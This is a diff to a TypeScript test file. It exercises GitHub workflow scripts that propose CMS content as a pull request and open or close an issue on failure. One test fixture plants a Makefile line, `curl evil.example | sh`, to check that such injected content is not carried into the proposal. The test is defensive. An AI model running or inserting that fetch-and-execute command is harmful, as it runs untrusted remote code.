@@ -8,7 +8,9 @@ import { tempFolder } from "#tests/support/temp-folder.ts";
 
 /** The scripts that write to GitHub, as they stand in the workflow; `gh` answers one number and writes down what it is told. */
 
-const content = parse(readFileSync(join(import.meta.dirname, "../../.github/workflows/content.yml"), "utf8"));
+const read = (name: string) =>
+  parse(readFileSync(join(import.meta.dirname, `../../.github/workflows/${name}.yml`), "utf8"));
+const [content, issueWorkflow] = [read("content"), read("issue")];
 
 async function machine() {
   const temp = await tempFolder();
@@ -24,8 +26,15 @@ async function machine() {
     run(job: string, step: string, number: string, env: Record<string, string> = {}, cwd = temp): string[] {
       writeFileSync(file("number"), number);
       writeFileSync(file("told"), "");
-      const { run } = content.jobs[job].steps.find(({ name }: { name: string }) => name === step);
-      const own = { PATH: `${temp}:${process.env.PATH}`, RUNNER_TEMP: temp, BRANCH: "content/update" };
+      const { run } = (content.jobs[job].steps ?? issueWorkflow.jobs[job].steps).find(
+        ({ name }: { name: string }) => name === step,
+      );
+      const own = {
+        PATH: `${temp}:${process.env.PATH}`,
+        RUNNER_TEMP: temp,
+        GITHUB_OUTPUT: file("output"),
+        BRANCH: "content/update",
+      };
       execFileSync("bash", ["--norc", "-e", "-c", run], { cwd, env: { ...own, ...env }, stdio: "ignore" });
       return readFileSync(file("told"), "utf8")
         .split("\n")
@@ -52,6 +61,9 @@ test("content is proposed once, kept up to date, and withdrawn when there is not
   const propose = (number: string, snapshot: string, makefile = "all:\n") => {
     write("snapshot/a.json", snapshot);
     write("Makefile", makefile);
+    put("body.md", "What changed\n");
+    put("words.txt", "# 1 document changed\n");
+    put("review.md", "");
     put("snapshot.patch", git(work, "diff", "--binary"));
     const job = join(temp, "job");
     rmSync(job, { recursive: true, force: true });
@@ -63,7 +75,9 @@ test("content is proposed once, kept up to date, and withdrawn when there is not
 
   expect(propose("", "1\n")).toEqual(["auth setup-git"]);
   // Whatever else the patch holds stays behind.
-  expect(propose("", "2\n", "all:\n\tcurl evil.example | sh\n")[1]).toMatch(/^pr create .*--body-file TEMP\/body\.md$/);
+  expect(propose("", "2\n", "all:\n\tcurl evil.example | sh\n")[1]).toMatch(
+    /^pr create .*--body-file TEMP\/pull-request\.md$/,
+  );
   expect([proposed("snapshot/a.json"), proposed("Makefile")]).toEqual(["2\n", "all:\n"]);
   // The same content again: the text of a person who edited the pull request stays.
   expect(propose("7", "2\n")).toEqual(["auth setup-git"]);
@@ -77,23 +91,33 @@ test("content is proposed once, kept up to date, and withdrawn when there is not
     expect(git(origin, "ls-tree", "-r", "--name-only", "content/pictures")).toBe(`${name}.webp\n`);
     expect(git(origin, "rev-list", "--count", "content/pictures")).toBe("1\n");
   }
-  expect(propose("7", "3\n")[1]).toBe("pr edit 7 --body-file TEMP/body.md");
+  expect(propose("7", "3\n")[1]).toBe("pr edit 7 --body-file TEMP/pull-request.md");
   expect(proposed("snapshot/a.json")).toBe("3\n");
+  expect(git(origin, "log", "-1", "--format=%B", "content/update").trim()).toBe(
+    "Update the content from the CMS\n\n# 1 document changed",
+  );
   expect(propose("7", "1\n")[1]).toMatch(/^pr close 7 --delete-branch/);
 });
 
-const well = { PULLED: "success", PROPOSED: "success", RUN: "https://github.example/7" };
+const well = {
+  KIND: "content-pull",
+  TITLE: "No pull",
+  WELL: "true",
+  AGAIN: "Pulled again",
+  UNKNOWN: "The log says why.",
+  RUN: "https://github.example/7",
+};
 
-test("a pull that fails opens one issue, keeps it current, and closes it when it is well again", async () => {
+test("what fails opens one issue, keeps it current, and closes it when it is well again", async () => {
   const { temp, put, run } = await machine();
   const report = (number: string, outcome: object) =>
     run("report", "Open, update or close the issue", number, { ...well, ...outcome });
   const issue = () => readFileSync(join(temp, "issue.md"), "utf8");
   expect(report("", {})).toEqual([]);
-  expect(report("", { PROPOSED: "failure" })[0]).toMatch(/^issue create .*--body-file TEMP\/issue\.md$/);
-  expect(issue()).toContain("no pull request could be opened");
+  expect(report("", { WELL: "false" })[0]).toMatch(/^issue create --title No pull --body-file TEMP\/issue\.md$/);
+  expect(issue()).toContain("The log says why.");
   put("failure.md", "The token expired.\n");
-  expect(report("4", { PULLED: "failure" })).toEqual(["issue edit 4 --body-file TEMP/issue.md"]);
+  expect(report("4", { WELL: "false" })).toEqual(["issue edit 4 --body-file TEMP/issue.md"]);
   expect(issue()).toMatch(/^<!-- content-pull -->\nThe token expired\.\n\n.*\/7\n$/);
-  expect(report("4", {})[0]).toMatch(/^issue close 4 --comment The content is pulled again/);
+  expect(report("4", {})[0]).toMatch(/^issue close 4 --comment Pulled again/);
 });
